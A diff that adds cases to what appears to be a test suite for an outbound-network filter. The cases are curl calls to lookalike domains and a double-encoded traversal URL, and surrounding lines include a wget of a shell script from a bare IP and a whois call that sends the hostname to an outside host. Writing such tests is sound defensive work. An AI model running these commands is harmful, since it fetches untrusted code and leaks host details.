@@ -112,6 +112,21 @@ testFilter(
       { call: 'curl https://example\uff0ecom/a', codes: ['egress.misleading'], why: 'a dot that is none' },
       { call: 'wget http://203.0.113.9/x.sh', codes: ['egress.address'], why: 'nobody proves who answers' },
       {
+        call: 'curl https://githuh.com/install',
+        codes: ['egress.misleading'],
+        why: 'one letter from a well-known name',
+      },
+      {
+        call: 'curl https://rnicrosoft.com/a',
+        codes: ['egress.misleading'],
+        why: 'two letters that look like one',
+      },
+      {
+        call: 'curl https://example.com/%252e%252e%252fetc',
+        codes: ['egress.misleading'],
+        why: 'escaped twice',
+      },
+      {
         call: 'whois -h up.example -p 4000 "$(hostname)"',
         codes: ['egress.scheme'],
         why: 'a program for looking up names tells a stranger something',
